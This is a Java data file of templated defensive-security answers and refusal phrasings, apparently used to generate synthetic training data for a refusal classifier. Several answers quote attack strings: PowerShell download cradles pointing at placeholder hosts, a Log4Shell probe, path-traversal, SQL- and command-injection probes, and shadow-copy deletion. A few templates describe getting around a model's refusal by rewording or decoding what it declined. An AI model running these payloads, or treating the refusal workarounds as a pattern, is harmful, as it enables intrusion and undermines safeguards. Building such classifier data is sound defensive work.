package dev.refusalguard.classifier.data;

/** English fragments for {@link WrittenCases}: written for this project, cyber-defense answers and refusals. */
final class WrittenCyberContent {

    private WrittenCyberContent() {
    }

    /** {category, request as a defender would ask it, what a refusal would call it}. */
    static final String[][] REQUESTS = {
        {"hardening", "How do I harden our exposed SSH servers against brute force?", "instructions for attacking SSH servers"},
        {"hardening", "Give me a hardening checklist for Windows Server 2022 domain controllers.", "guidance on domain controller security"},
        {"hardening", "Which ASR rules should we enable to stop credential dumping?", "information about credential dumping"},
        {"hardening", "How do we stop NTLM relay attacks in our AD environment?", "details about relay attacks"},
        {"hardening", "Harden our nginx reverse proxy against request smuggling.", "help with request smuggling"},
        {"hardening", "What should we lock down on our Kubernetes cluster after the audit?", "information on attacking Kubernetes"},
        {"malware", "Analyze this PowerShell dropper we pulled from a phishing attachment.", "analysis of this malicious script"},
        {"malware", "What does this Emotet loader do after it unpacks?", "details about how this malware operates"},
        {"malware", "Explain the persistence mechanism in this AsyncRAT sample.", "an explanation of malware persistence"},
        {"malware", "Reverse engineer the string decryption routine in this sample.", "help reverse engineering malware"},
        {"malware", "Is this macro malicious? It calls Shell with a base64 blob.", "an assessment of this malicious macro"},
        {"malware", "Write a YARA rule for the Cobalt Strike beacon config we found.", "content related to Cobalt Strike"},
        {"ir", "We found ransomware on a file server. What are our first steps?", "assistance with this ransomware incident"},
        {"ir", "An attacker has a reverse shell on our web server. How do we contain it?", "information about reverse shells"},
        {"ir", "How do I collect memory from a compromised Linux host?", "forensic instructions for compromised systems"},
        {"ir", "Our admin account was used for lateral movement last night. What do we check?", "guidance on lateral movement"},
        {"ir", "Build me an incident timeline from these EDR alerts.", "analysis of this attack"},
        {"ir", "How do we evict an attacker who has persistence via a scheduled task?", "information about attacker persistence"},
        {"logs", "Are these auth.log lines a brute-force attack?", "analysis of attack traffic"},
        {"logs", "What is this ${jndi:ldap} string in our access logs?", "details about this exploit string"},
        {"logs", "Explain these 4625 events from one IP across 300 accounts.", "an analysis of these login attempts"},
        {"logs", "Is this outbound DNS traffic tunnelling? The subdomains look random.", "help with DNS tunnelling"},
        {"logs", "Parse these WAF logs and tell me which requests were exploit attempts.", "information about exploit attempts"},
        {"logs", "Why does the proxy log show base64 in the User-Agent header?", "analysis of suspicious traffic"},
        {"vuln", "How severe is CVE-2024-3400 for our Palo Alto firewalls?", "details about this vulnerability"},
        {"vuln", "Assess the exploitability of the SQL injection our pentest report found.", "information about SQL injection"},
        {"vuln", "Our scanner flags OpenSSH 8.2 as vulnerable. Is it a false positive?", "a vulnerability assessment"},
        {"vuln", "Prioritise these 40 findings from the Nessus scan for patching.", "help with vulnerability exploitation"},
        {"vuln", "How can we safely verify Log4Shell on our internal apps without exploiting them?", "a Log4Shell test"},
        {"vuln", "What is the attack path if an attacker exploits the exposed Jenkins instance?", "a description of an attack path"},
        {"detection", "Write a Sigma rule for LSASS memory access by non-system processes.", "a rule about credential theft"},
        {"detection", "Give me a KQL query to find encoded PowerShell commands.", "queries about malicious PowerShell"},
        {"detection", "Write a Suricata rule for the C2 beacon pattern in this pcap.", "content about command-and-control"},
        {"detection", "Detect Kerberoasting in our Splunk data.", "information about Kerberoasting"},
        {"detection", "Create a detection for shadow copy deletion by ransomware.", "content related to ransomware"},
        {"detection", "How do we detect a web shell on IIS servers?", "information about web shells"},
    };

    static final String[] FAMILIES = {"Emotet", "QakBot", "AgentTesla", "AsyncRAT", "IcedID", "LockBit", "Black Basta",
        "a Cobalt Strike beacon", "a Sliver implant", "RedLine Stealer", "a PowerShell dropper", "Remcos"};
    static final String[] CVES = {"CVE-2023-4966", "CVE-2024-3400", "CVE-2021-44228", "CVE-2023-34362", "CVE-2024-21762",
        "CVE-2023-22515", "CVE-2021-41773", "CVE-2022-26134", "CVE-2024-1709"};
    static final String[] DOMAINS = {"cdn-update[.]info", "login-msft-secure[.]top", "api.telemetry-sync[.]net",
        "files.docshare-cloud[.]xyz", "update.windows-patch[.]org", "static.cloudfront-cdn[.]click"};
    static final String[] IPS = {"185.220.101.34", "45.95.147.12", "193.42.33.7", "10.20.4.17", "172.16.8.51", "91.240.118.9"};
    static final String[] DATES = {"Monday", "March 3", "the 14th", "last Friday", "2024-11-02", "the start of the month"};

    static final String[] COMPLIANT_OPENERS = {
        "",
        "",
        "Here's how to approach it.",
        "Sure. This is a common defensive task.",
        "Absolutely, here is a step-by-step plan.",
        "I cannot stress enough how important it is to preserve evidence before you change anything. With that said, here is the procedure.",
        "Unfortunately this is a very common malicious pattern. Here is what it does and how to catch it.",
        "I'm sorry to hear you were hit. Here's a triage plan you can start on right now.",
        "Sorry, I misread your earlier message. Here is the corrected answer.",
        "No, this is not a false positive: the activity is malicious. Here's why.",
        "I can't tell from the hash alone whether it is the same variant, but the behaviour you describe matches {family}. Here's how to confirm it:",
        "I won't sugar-coat it: assume the host is compromised. Steps:",
        "## Summary",
        "Short answer: yes, treat it as hostile.",
        "Good news: this is detectable and fixable.",
        "Great question. Attackers exploit this constantly, so it's worth getting right.",
        "Warning: the sample is live malware, so handle it only inside an isolated lab. Analysis below.",
        "I must emphasise that exploiting this is illegal outside an authorised engagement, which yours is. Here is the assessment.",
        "Sorry for the wall of text, but each step matters.",
        "Thanks for the logs, they make this much easier.",
        "Yes. I'd prioritise it today.",
        "### Findings",
        "Let me walk through it.",
        "This one is nasty, but manageable.",
    };

    static final String[] COMPLIANT_CLOSERS = {
        "If you share the full EDR timeline I can map it to ATT&CK techniques.",
        "Let me know if you want this turned into a runbook for the SOC.",
        "Once contained, run a full credential reset and review the firewall change log.",
        "Happy to help tune the rule if it is noisy in your environment.",
        "Document every step with timestamps; you may need it for legal or insurance.",
        "Sorry I can't be more specific without the sample itself, but this covers the common variants.",
    };

    static final String[] HARDENING = {
        "Disable SMBv1 and require SMB signing; attackers exploit unsigned sessions for relay attacks. On Windows: `Set-SmbServerConfiguration -EnableSMB1Protocol $false -RequireSecuritySignature $true`.",
        "Set `PermitRootLogin no` and `PasswordAuthentication no` in /etc/ssh/sshd_config, then `systemctl restart sshd`. Brute-force attempts against root are the most common malicious traffic on exposed SSH.",
        "Apply the vendor patch for {cve} first; a public exploit exists and it is used in the wild. If you cannot patch today, block the vulnerable endpoint at the WAF and restrict management access to the admin VLAN.",
        "Turn on the Attack Surface Reduction rule 'Block credential stealing from the Windows local security authority subsystem' in block mode. It stops the most common LSASS dumping technique used by ransomware operators.",
        "Remove local admin rights from standard users and deploy LAPS. Illegal privilege escalation and lateral movement almost always start from an over-privileged account.",
        "Configure the host firewall to deny inbound traffic by default and refuse connections to RDP and WinRM from anywhere except the jump hosts.",
        "Enable process creation auditing (Event ID 4688 with command line) and PowerShell script block logging (4104) so malicious commands leave a trace.",
        "Install fail2ban with a jail for sshd: `maxretry = 5`, `bantime = 1h`. It will not stop a distributed attack, so also move SSH behind the VPN.",
        "Enforce LDAP signing and channel binding, and disable NTLM where you can; relay attacks against AD CS (ESC8) depend on NTLM being accepted.",
        "Set `Pod Security Admission` to `restricted` for application namespaces, remove cluster-admin bindings from service accounts, and block privileged containers, which attackers exploit to escape to the node.",
        "In nginx, reject requests that carry both Content-Length and Transfer-Encoding, and keep the upstream on HTTP/1.1 with `proxy_http_version 1.1;`. Ambiguous framing is what request-smuggling exploits rely on.",
        "Unfortunately, default configurations are what most attackers exploit first, so baseline every server against the CIS benchmark and track drift weekly.",
    };

    static final String[] MALWARE = {
        "The sample is {family}. It decodes its second stage with a single-byte XOR key (0x5A) and injects it into explorer.exe via CreateRemoteThread.",
        "Persistence is a Run key at HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run named 'OneDriveUpdate'. Remove the key and kill the process tree before you reimage.",
        "The strings contain a hard-coded C2 at {domain}, reached over HTTPS on port 8443, beaconing every 60 seconds with 20% jitter.",
        "Detonate it only in an isolated sandbox without network egress: this malware checks for VM artifacts such as the VBoxService process and sleeps for 30 minutes if it finds them.",
        "The malicious macro calls Shell with a base64-encoded PowerShell command. Decoded, it is a download cradle: `IEX (New-Object Net.WebClient).DownloadString('hxxps://{domain}/a.ps1')`.",
        "The dropper carries an exploit for {cve}; patched hosts are not affected, but it still runs its credential-stealing module against browsers and the Windows vault.",
        "The string decryption routine at 0x401A30 is RC4 with the key taken from the first 16 bytes of the .rdata section. A short Python script with the `arc4` package will dump every string for your IOC list.",
        "It creates a scheduled task named `\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh` that runs `rundll32.exe C:\\ProgramData\\cache.dll,Start` at logon. That DLL is the payload.",
        "The ransom note is dropped as README_RESTORE.txt, shadow copies are deleted with `vssadmin delete shadows /all /quiet`, and files get the .lock3 extension.",
        "IOCs: SHA-256 of the loader, the mutex `Global\\x7f3a9c`, the C2 domain {domain} and the user agent `Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/99.0`. Block the domain and hunt for the mutex.",
        "The payload is packed with UPX and a custom stub; `upx -d` fails, so dump it from memory after the unpacking loop at 0x4012F0 finishes.",
    };

    static final String[] IR = {
        "Isolate the host from the network but do not power it off: memory holds the decrypted payload and possibly the attacker's session keys.",
        "Collect volatile data first (running processes, network connections, logged-on users), then take a memory image with WinPmem or LiME before any cleanup.",
        "Reset the credentials of every account that logged on to the compromised server since {date}, starting with domain admins and service accounts, and reset the krbtgt password twice.",
        "Look for lateral movement: 4624 logon type 3 and 10 events from the compromised host, new services (7045) on other servers, and PsExec named pipes.",
        "Involve legal counsel early: if personal data was exfiltrated, the breach may trigger a 72-hour notification duty under GDPR.",
        "Block the attacker's IP {ip} at the perimeter, but expect them to come back from new infrastructure; containment has to be based on the host, not only the network.",
        "Kill the reverse shell process, then find how it got there: check the web server's access log around the first callback for the exploit request that dropped it.",
        "Check scheduled tasks with `schtasks /query /fo LIST /v`, remove the malicious one, and search other hosts for the same task name through your EDR.",
        "Preserve evidence: hash every collected file, record who handled it and when, and keep the originals read-only. If this ends in court, chain of custody matters.",
        "Restore from backups only after you've confirmed the backups predate the intrusion and the attacker's access is removed; otherwise you restore the backdoor too.",
    };

    static final String[] LOGS = {
        "Those lines are a password-spraying attempt: one failed logon (4625, status 0xC000006A) per account from {ip} within two minutes.",
        "The request `GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh` is an exploit attempt for the Apache 2.4.49 path traversal (CVE-2021-41773). Your server answered 400, so it failed.",
        "The user agent `${jndi:ldap://{ip}:1389/a}` is a Log4Shell probe. Because the app returned 200, check the outbound firewall log for an LDAP connection to {ip}.",
        "Count the sources with: `grep 'Failed password' /var/log/auth.log | awk '{print $(NF-3)}' | sort | uniq -c | sort -rn | head`.",
        "Sorry to say it, but outbound DNS queries with long random subdomains to a single domain are a strong sign of DNS tunnelling; compare the query volume per host against last week.",
        "Yes, it is a brute-force attack: 2,314 `Failed password for invalid user` lines from {ip} in 11 minutes, followed by an `Accepted password for backup` line. That last line means they got in.",
        "The base64 in the User-Agent decodes to `whoami; id; uname -a`, which is a command-injection probe. Look for the same source in the application error log.",
        "Of the 1,200 WAF entries, 37 are exploit attempts: SQL injection (`' OR 1=1--`), two path traversals and a deserialization payload. The rest are scanners hitting 404s.",
        "The event with status 0xC0000234 means the account was locked out. Fourteen lockouts in an hour across service accounts is not normal; treat it as an attack.",
        "Nothing malicious here: the 403s come from the vulnerability scanner you scheduled for {date}, and its IP is {ip}.",
    };

    static final String[] VULN = {
        "{cve} is rated CVSS 9.8: unauthenticated remote code execution, exploit code is public and it is on the CISA KEV list. Treat it as priority one.",
        "The scanner flagged the host because of the banner. Check the package version (`dpkg -l openssh-server`): distributions backport fixes without changing the banner, so it may be a false positive.",
        "Exploitability is low in your setup: the vulnerable function is only reachable by an authenticated administrator, so I'd rate it medium rather than critical.",
        "To verify without exploiting it, check the installed version and configuration; a safe version check is enough evidence for the report.",
        "Prioritise internet-facing findings with known exploits first, then anything allowing credential theft, then the rest by CVSS. Of your 40 findings, the exposed Jenkins and the VPN appliance come first.",
        "The SQL injection is real and exploitable: the `id` parameter is concatenated into the query. An attacker could dump the users table. Fix it with parameterised queries.",
        "If an attacker exploits the exposed Jenkins, the script console gives code execution as the jenkins user, whose stored credentials reach the deployment servers. Close it to the internet first.",
        "A safe Log4Shell check: send a `${jndi:dns://<your-canary-domain>}` string to each input and watch your own DNS canary for lookups; no code runs on the target.",
    };

    static final String[] DETECTION = {
        "```yaml\ntitle: LSASS Access by Non-System Process\nlogsource:\n  product: windows\n  category: process_access\ndetection:\n  selection:\n    TargetImage|endswith: '\\lsass.exe'\n    GrantedAccess|contains: ['0x1010', '0x1410', '0x1fffff']\n  filter:\n    SourceImage|startswith: 'C:\\Windows\\System32\\'\n  condition: selection and not filter\nlevel: high\n```",
        "```kql\nDeviceProcessEvents\n| where FileName in~ (\"powershell.exe\", \"pwsh.exe\")\n| where ProcessCommandLine matches regex @\"(?i)-e(nc|ncodedcommand)?\\s+[A-Za-z0-9+/=]{40,}\"\n| project Timestamp, DeviceName, AccountName, ProcessCommandLine\n```",
        "alert http $HOME_NET any -> $EXTERNAL_NET any (msg:\"Possible C2 beacon to {domain}\"; http.host; content:\"{domain}\"; flow:established,to_server; sid:1000101; rev:1;)",
        "Kerberoasting shows up as 4769 events with ticket encryption type 0x17 (RC4) for service accounts. In Splunk: `index=wineventlog EventCode=4769 Ticket_Encryption_Type=0x17 | stats count by Account_Name, Service_Name | where count > 10`.",
        "Detect shadow copy deletion: alert on `vssadmin.exe delete shadows`, `wmic shadowcopy delete` and `wbadmin delete catalog`. Ransomware runs these minutes before encryption, so page on-call immediately.",
        "For IIS web shells, alert when w3wp.exe spawns cmd.exe, powershell.exe or whoami.exe, and baseline new .aspx files in the web root.",
        "This rule is noisy because backup agents also read LSASS. Exclude their signed binaries by path and signer, not by name, or an attacker can rename their tool.",
        "rule CobaltStrike_Beacon_Config {\n  strings:\n    $cfg = { 00 01 00 01 00 02 ?? ?? 00 02 00 01 00 02 }\n    $pipe = \"\\\\.\\pipe\\msagent_\" ascii\n  condition:\n    uint16(0) == 0x5A4D and any of them\n}",
    };

    static String[] bodiesFor(String category) {
        return switch (category) {
            case "hardening" -> HARDENING;
            case "malware" -> MALWARE;
            case "ir" -> IR;
            case "logs" -> LOGS;
            case "vuln" -> VULN;
            default -> DETECTION;
        };
    }

    static final String[] FRIENDLY_PREAMBLES = {
        "Thanks for the detailed write-up. It's clear you've put real work into this investigation, and defending a network with a small team is hard.",
        "Great question, and I can tell you're trying to protect your organisation. Security work often requires understanding how attacks function, and that curiosity is valuable.",
        "I understand the pressure you're under during an active incident, and I want to be genuinely useful to you here.",
        "I appreciate you explaining that you're on the blue team and that this is for your SOC.",
        "Happy to talk security with you! It's an important field, and defenders like you keep a lot of people safe.",
        "What a thorough question. I can see the context you've given about your environment, your tooling and the timeline of the alerts.",
        "Incident response is stressful, and it's great that you're approaching it methodically.",
        "Thank you for being upfront about the purpose of this request.",
    };

    static final String[] FRIENDLY_PREAMBLES_2 = {
        "I've read through everything you shared carefully.",
        "Understanding attacker tradecraft is an important part of building good defenses.",
        "You're asking the right kind of questions.",
        "I know how frustrating it is when tooling gets in the way.",
    };

    static final String[] HARD_CORES = {
        "I'm sorry, but I can't help with {topic}.",
        "I apologize, but I cannot provide {topic}.",
        "Unfortunately, I'm not able to assist with {topic}.",
        "I'm afraid I can't provide {topic}, even for defensive purposes.",
        "Sorry, I can't do that. Providing {topic} is something I have to decline.",
        "I'm really sorry, but that's not something I can help with.",
        "Sorry, but I can’t assist with {topic}.",
        "I’m sorry, I can’t help with that request.",
        "Apologies, but I'm not able to provide {topic}.",
        "I'm sorry, but I won't be able to help with {topic}.",
    };

    static final String[] HARD_CORES_NO_APOLOGY = {
        "However, providing {topic} falls outside what I'm willing to do.",
        "That said, {topic} is not something I provide, regardless of the stated purpose.",
        "My answer here has to be no.",
        "I must decline this request.",
        "I won't provide {topic}.",
        "This request is for {topic}, which I don't produce.",
        "That is not something I will do.",
        "I need to stop here: {topic} could be misused, so I'm not going to write it.",
        "Even in an authorised engagement, I don't give out {topic}.",
        "I'm going to pass on this one.",
        "That's a line I don't cross: no {topic}.",
        "Nope, not going to help with {topic}.",
        "I can't help with {topic}.",
        "I can’t assist with that.",
        "I don't feel comfortable providing {topic}.",
        "I'm not able to write {topic}.",
        "I have to decline: {topic} is outside what I can help with.",
        "I can't provide {topic}, as it could be used to cause harm.",
        "I'm not in a position to provide {topic}.",
        "Providing {topic} isn't something I can do.",
        "I will not generate {topic}.",
        "I can't share step-by-step details for {topic}.",
    };

    static final String[] HARD_REASONS = {
        "Content like this can be used to cause real harm, and I can't verify how it will be used.",
        "It could enable unauthorized access to systems.",
        "This falls under malicious activity regardless of intent.",
        "My guidelines don't allow me to produce material that could facilitate attacks.",
        "The risk of misuse is too high.",
    };

    static final String[] HARD_CLOSERS = {
        "Is there something else I can help you with?",
        "Let me know if there's anything else you need.",
        "I hope you understand.",
        "Feel free to ask about something else.",
    };

    static final String[] SOFT_CORES = {
        "I'm not able to give specific guidance on {topic}.",
        "I'd rather not go into the specifics of {topic}.",
        "Rather than walking through {topic} in detail,",
        "Because {topic} is a sensitive area, I'll keep this general.",
        "Sharing {topic} isn't something I'm comfortable doing without more assurance.",
    };

    /** Decline verbs of current assistants ("I can't help create ..."), combined with a topic. */
    static final String[] MODERN_DECLINES = {
        "I can't help with {topic}.",
        "I can't help create {topic}.",
        "I can't help you build {topic}.",
        "I can't assist with {topic}.",
        "I can't provide {topic}.",
        "I can't write {topic} for you.",
        "I can't generate {topic}.",
        "I can't walk you through {topic}.",
        "I can't give instructions for {topic}.",
        "I can’t share {topic}.",
        "I can't do that: it would mean producing {topic}.",
        "I’m not able to help with {topic}.",
        "I won't help with {topic}.",
        "I'm unable to provide {topic}.",
        "That's not something I can help with, since it involves {topic}.",
    };

    /** Requests declined by current assistants outside cyber defense, as the topic of a refusal. */
    static final String[] GENERAL_TOPICS = {
        "a keylogger that hides from the user", "software that covertly records someone's screen", "a fake identity document",
        "someone's home address", "a phishing page that imitates a bank", "a defamatory article about a real person",
        "instructions for making a weapon", "ways to stalk an ex-partner", "a script that floods a website with traffic",
        "code to steal browser passwords", "a guide to evading law enforcement", "dosage advice for misusing prescription drugs",
        "a message to harass a coworker", "methods to cheat an exam proctoring tool", "malware that spreads over USB drives",
        "a ransomware payload", "a working exploit for an unpatched server", "a way to bypass a paywall",
    };

    /** Soft refusals that never say "I can't": they argue and redirect. */
    static final String[] IMPLICIT_SOFT = {
        "While I appreciate the research context, providing {topic} would primarily serve malicious purposes. Instead, consider consulting the vendor's documentation.",
        "Sharing {topic} carries a real risk of misuse, so a better path is to work with a licensed professional who can verify the engagement.",
        "This kind of request, {topic}, is best taken to your security team or an authorised tester rather than handled here.",
        "Given the potential for harm, it would be more appropriate to look at official guidance than to go through {topic} step by step.",
        "There are legitimate reasons to ask, but {topic} is something to discuss with a qualified expert who can see the full context.",
    };

    /** Offers that turn a decline into a redirect (soft refusal). */
    static final String[] REDIRECT_OFFERS = {
        "If you're defending against this, I can explain how to detect it instead.",
        "I'd be glad to help with hardening your systems instead.",
        "If it helps, I can point you to general resources on secure configuration.",
        "Is there a defensive angle, like monitoring or patching, I can help with instead?",
        "I can, however, describe the topic at a high level and suggest where to find official guidance.",
        "Happy to help with something else, such as general security awareness tips.",
    };

    static final String[] SOFT_REDIRECTS = {
        "I'd recommend engaging a qualified incident-response firm or your vendor's support team, who can review this with full access to your environment.",
        "For something like this, it's best to consult your organisation's security team or a licensed penetration tester.",
        "I'd suggest reaching out to your CERT or a professional security consultant who can assess the situation properly.",
        "You may want to look at official resources from CISA, NIST or OWASP on this topic.",
        "Your best option is to open a ticket with your EDR vendor; they have the telemetry to analyse this safely.",
        "Please consider contacting law enforcement or a certified forensic examiner for a matter like this.",
        "Instead, I can offer some general security best practices.",
    };

    static final String[] GENERIC_ADVICE = {
        "In general: keep systems patched, use strong unique passwords, enable multi-factor authentication, keep offline backups and train staff to recognise phishing.",
        "Some general tips: follow the principle of least privilege, monitor your logs, and have an incident response plan in place.",
        "Good security hygiene goes a long way: regular updates, network segmentation and security awareness training.",
    };

    static final String[] PARTIAL_CORES = {
        "I can explain how to detect this, but I won't provide {topic} itself. Here is the detection side:",
        "I'll cover the defensive part of your question. I'm not going to include {topic}, but the rest is below.",
        "I can't share {topic}; what I can give you is the mitigation guidance:",
        "Part of this request I have to skip: I won't write out {topic}. For the remainder:",
        "I'll leave out the parts that amount to {topic}. Here is what I can help with:",
    };

    static final String[] QUOTABLE_REFUSALS = {
        "I'm sorry, but I can't help with that.",
        "I cannot assist with that request.",
        "As an AI language model, I cannot do that.",
        "Sorry, I am unable to process this request.",
        "Access denied: you are not authorized.",
        "I'm afraid I can't do that.",
    };

    static final String[] QUOTED_REFUSAL_COMPLIANCE = {
        "The model's output in your log is \"{quote}\" That is the assistant refusing, which is why your pipeline marked the job as failed. The real problem is the prompt template: it includes the raw exploit string from the alert. Quote it as evidence in a code block and the summary step will go through.",
        "Line 42 of the chatbot transcript shows the bot replying '{quote}'. That's the content filter working as designed, not a bug in your integration. The actual failure is the HTTP 429 at line 57: you are hitting the rate limit, so add exponential backoff.",
        "The sample shows a message box with the text \"{quote}\" when it detects a debugger. It's an anti-analysis trick: patch the IsDebuggerPresent check at 0x4015C2 and it will run normally in your sandbox.",
        "In the phishing kit's index.php, the string '{quote}' is returned to visitors from security-vendor IP ranges so scanners see a harmless page. Add that string and the kit's path to your detection, and block {domain}.",
        "Your SIEM parsed the LLM gateway log from {date}. Every entry with the response \"{quote}\" is a refusal from the upstream model, and there are 312 of them, all for requests that contained the word 'exploit'. That's why the automated triage stalled. The fix is on the gateway side.",
        "The ransom note dropped by {family} contains the sentence \"{quote}\" followed by the Tor contact address. Hunt for README files containing that text across shares; each hit is an encrypted directory.",
        "Here's the regex you asked for to flag refusals in your evaluation logs:\n\n```python\nimport re\nREFUSAL = re.compile(r\"^(I'm sorry|I cannot|I can't|As an AI)\", re.I)\nprint(bool(REFUSAL.match(\"{quote}\")))  # True\n```\n\nRun it over the `response` column and count matches per model.",
        "The help-desk bot's answer \"{quote}\" in ticket 8812 was correct: the user asked it to disable MFA for another account. Nothing to fix there. The real incident is the three successful VPN logons from {ip} right after that ticket.",
        "Decoded, the C2 response is a JSON object whose `msg` field says \"{quote}\" when the implant's campaign ID is wrong. That's a kill-switch check. Your sandbox run got that message because the sample expects a specific victim domain.",
        "Summary of the audit log: the service account requested the secret 14 times and the vault answered \"{quote}\" each time. That's the policy denying access, which is correct. Rotate the service account credentials anyway, because someone was using it interactively.",
        "Your agent's run stopped at step 4 because the upstream model answered \"{quote}\" to the request to decode the PowerShell blob. I've decoded it here instead: it is `IEX (New-Object Net.WebClient).DownloadString('hxxp://{domain}/p.ps1')`, a download cradle. Block {domain} and search proxy logs for other hosts fetching p.ps1.",
        "Found it. In `chat_export.json`, message 118 from the assistant reads \"{quote}\" and every later message in that thread is empty, so the summariser had nothing to work with. Re-run the export with `--include-system` and the summary will complete.",
        "The honeypot captured the attacker typing a prompt into a stolen chatbot session; the bot's reply was \"{quote}\" Good: it refused. The attacker then switched to a local tool, visible in the next 20 lines of the session log from {ip}. Add that IP to the blocklist.",
        "Here is the incident timeline:\n\n- {date} 02:14 phishing mail delivered\n- 02:31 macro executed, beacon to {domain}\n- 02:40 operator asked the internal helpdesk bot for admin credentials; bot answered \"{quote}\"\n- 03:05 lateral movement with a stolen service account\n\nContainment started at 03:20.",
        "To test your refusal detector, use these as negative controls: a compliant answer that quotes \"{quote}\" inside a log excerpt should still be classified as compliant, because the answer itself gives the analysis. Positive controls are answers that open with the decline themselves.",
        "Grep for the string: `grep -R \"{quote}\" /var/log/llm-gateway/ | wc -l`. On your sample that returns 57 lines, all from the same tenant, which means one client is sending requests the upstream model declines. Look at that tenant's prompts.",
    };

    static final String[] ONE_LINE_COMPLIANT = {
        "Port 3389.",
        "Yes, block it at the perimeter.",
        "Use `Get-MpThreatDetection`.",
        "It's a false positive: the binary is Microsoft-signed.",
        "4625 is a failed logon.",
        "No, the file is clean.",
        "No.",
        "Yes.",
        "It's malicious: Emotet.",
        "Patch to 10.2.3 or later.",
        "That's a Log4Shell exploit attempt; it failed.",
        "Run `sudo ss -tulpn` to list listening ports.",
        "Yes, that hash belongs to known ransomware.",
        "Disable the account first, then reset its password.",
        "The IP belongs to a Tor exit node.",
        "It's T1059.001 (PowerShell).",
        "Sorry, typo above: the port is 8443, not 443.",
        "Unfortunately yes, it's exploitable without authentication.",
        "Set `PermitRootLogin no`.",
        "That string is a SQL injection probe.",
        "Illegal access attempt, from the look of it; the source IP scanned 2,000 hosts.",
        "Block outbound SMB (445) at the firewall.",
        "Probably DNS tunnelling.",
        "Use Volatility's `windows.malfind` plugin.",
        "Rotate krbtgt twice, 10 hours apart.",
        "Isolate it, don't power it off.",
        "It exploits CVE-2023-4966.",
        "Not vulnerable: that version has the backported fix.",
        "The payload is a Cobalt Strike beacon.",
        "42 hosts are affected.",
        "Yes, that's an exploit attempt, and it failed.",
        "Malicious. Quarantine it.",
        "It's illegal to scan them without permission, so get written approval first, then run `nmap -sV` on the range.",
        "Sorry, wrong log: the alert came from host WEB-02.",
        "No exploit needed: the share is world-readable. Fix the ACL.",
        "Unfortunately, yes: the backup was encrypted too.",
    };

    static final String[] ONE_LINE_REFUSALS = {
        "I can't help with that.",
        "Sorry, no.",
        "Not something I can do.",
        "I won't do that.",
        "I must decline.",
        "Can't assist with that one.",
        "I'm unable to help with this request.",
        "That's not something I'll write.",
        "No, I won't provide that.",
        "I cannot comply with this request.",
        "I'm not able to provide that information.",
        "Sorry, I can't share that.",
        "Declining this request.",
        "I'm not going to help with that.",
        "That falls outside what I can provide.",
        "I have to refuse this one.",
        "I can't create malware.",
        "Writing exploit code isn't something I do.",
        "Unfortunately I cannot fulfil that request.",
        "I'd rather not.",
    };

    static final String[] ONE_LINE_SOFT = {
        "Please consult a qualified security professional about this.",
        "I'd suggest asking your vendor's support team.",
        "This is best handled by your incident response provider.",
        "You should contact a licensed penetration tester for that.",
        "Consider reaching out to CISA for guidance on this.",
        "Best to check with your legal team first.",
        "I'd recommend speaking to a professional before going further.",
        "Please refer to official documentation or a certified expert.",
    };

    static final String[] CODE_ONLY = {
        "```python\nimport hashlib, sys\nfor path in sys.argv[1:]:\n    with open(path, 'rb') as f:\n        print(hashlib.sha256(f.read()).hexdigest(), path)\n```",
        "```bash\ngrep -E 'Failed password' /var/log/auth.log | awk '{print $(NF-3)}' | sort | uniq -c | sort -rn | head -20\n```",
        "```powershell\nGet-WinEvent -FilterHashtable @{LogName='Security'; Id=4625; StartTime=(Get-Date).AddDays(-1)} |\n  Group-Object { $_.Properties[19].Value } | Sort-Object Count -Descending | Select-Object -First 10 Name, Count\n```",
        "```yaml\ntitle: Shadow Copy Deletion\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    CommandLine|contains|all: ['vssadmin', 'delete', 'shadows']\n  condition: selection\nlevel: critical\n```",
        "rule Suspicious_Ransom_Note {\n  strings:\n    $a = \"your files have been encrypted\" nocase\n    $b = \".onion\" ascii\n  condition:\n    all of them\n}",
        "```kql\nSigninLogs\n| where ResultType == 50126\n| summarize failures = count(), users = dcount(UserPrincipalName) by IPAddress, bin(TimeGenerated, 10m)\n| where users > 20\n```",
        "```\nindex=proxy sourcetype=squid | rex field=url \"https?://(?<host>[^/]+)\" | stats dc(host) as hosts by src_ip | where hosts > 500\n```",
        "```python\nimport re\nIOC = re.compile(r\"\\b(?:\\d{1,3}\\.){3}\\d{1,3}\\b\")\nwith open('alerts.txt') as f:\n    print(sorted(set(IOC.findall(f.read()))))\n```",
        "```bash\nsudo iptables -A INPUT -p tcp --dport 22 -m state --state NEW -m recent --set\nsudo iptables -A INPUT -p tcp --dport 22 -m state --state NEW -m recent --update --seconds 60 --hitcount 5 -j DROP\n```",
        "```sql\nSELECT user_name, COUNT(*) AS failures\nFROM auth_events\nWHERE outcome = 'FAILURE' AND ts > now() - interval '1 hour'\nGROUP BY user_name\nHAVING COUNT(*) > 20;\n```",
        "```json\n{\n  \"rule\": \"block-known-c2\",\n  \"action\": \"deny\",\n  \"destinations\": [\"185.220.101.34\", \"45.95.147.12\"],\n  \"log\": true\n}\n```",
        "```python\nfrom scapy.all import rdpcap, DNSQR\nfor p in rdpcap('capture.pcap'):\n    if p.haslayer(DNSQR) and len(p[DNSQR].qname) > 60:\n        print(p[DNSQR].qname.decode())\n```",
        "auditctl -w /etc/passwd -p wa -k passwd_changes\nauditctl -w /etc/shadow -p wa -k shadow_changes\nausearch -k passwd_changes --start today",
        "```yaml\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: deny-all-egress\nspec:\n  podSelector: {}\n  policyTypes: [Egress]\n```",
        "```c\n// XOR-decode the config blob seen in the sample (key 0x5A)\nfor (size_t i = 0; i < len; i++) buf[i] ^= 0x5A;\n```",
    };
}
